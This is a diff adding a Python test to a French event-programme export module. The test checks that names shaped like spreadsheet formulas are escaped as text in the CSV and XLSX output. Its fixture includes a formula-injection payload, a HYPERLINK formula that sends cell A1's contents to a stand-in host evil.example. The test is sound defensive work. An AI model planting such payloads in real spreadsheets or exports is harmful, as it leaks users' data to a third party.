@@ -2,6 +2,7 @@
 the .xlsx (pandas); French characters, Paris times, and no contact detail anywhere."""
 
 import io
+import zipfile
 from datetime import date, datetime, time
 from zoneinfo import ZoneInfo
 
@@ -15,7 +16,7 @@ from core.programme.public import latest_programme
 from core.programme.publishing import publish_programme
 from db.engine import read_only, unit_of_work
 from db.models import ItemKind, Role
-from tests.core.programme.builders import add, edition_number, item, make_edition_with_call, retained
+from tests.core.programme.builders import add, edition_number, item, make_edition_with_call, retained, set_status
 from tests.factories import make_user
 
 PARIS = ZoneInfo("Europe/Paris")
@@ -85,3 +86,23 @@ def test_csv_is_for_french_excel(programme):
     text = programme_csv(programme).decode("utf-8-sig")
     assert text.splitlines()[0].startswith("Début;Fin;Élément;Titre")
     assert "18/03/2027 09:00:00" in text
+
+
+def test_a_structure_named_like_a_formula_stays_text_in_the_csv_and_the_xlsx(sqlite_db):
+    lead = make_user(Role.PILOTE)
+    edition_id, call_id = make_edition_with_call()
+    (candidacy_id,) = retained(call_id, 1)
+    name = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
+    set_status(candidacy_id, name=name, presenter_name="@SUM(1+1)")
+    add(lead, edition_id, item(ItemKind.PITCHES, "10:00", "10:30", call_id=call_id, title="+Présentations"))
+    with unit_of_work() as session:
+        publish_programme(session, actor=lead, edition_id=edition_id, note="Version", expected_number=0)
+    with read_only() as session:
+        programme = latest_programme(session, edition_number=edition_number(edition_id))
+    text = programme_csv(programme).decode("utf-8-sig")
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1;""Cliquez"")"' in text and ";'@SUM(1+1);" in text
+    assert ";'+Présentations;" in text
+    cells = pd.read_excel(io.BytesIO(programme_xlsx(programme)), dtype=str)
+    assert list(cells["Structure"].dropna()) == ["'" + name]
+    with zipfile.ZipFile(io.BytesIO(programme_xlsx(programme))) as workbook:
+        assert "<f>" not in workbook.read("xl/worksheets/sheet1.xml").decode()  # no formula cell at all
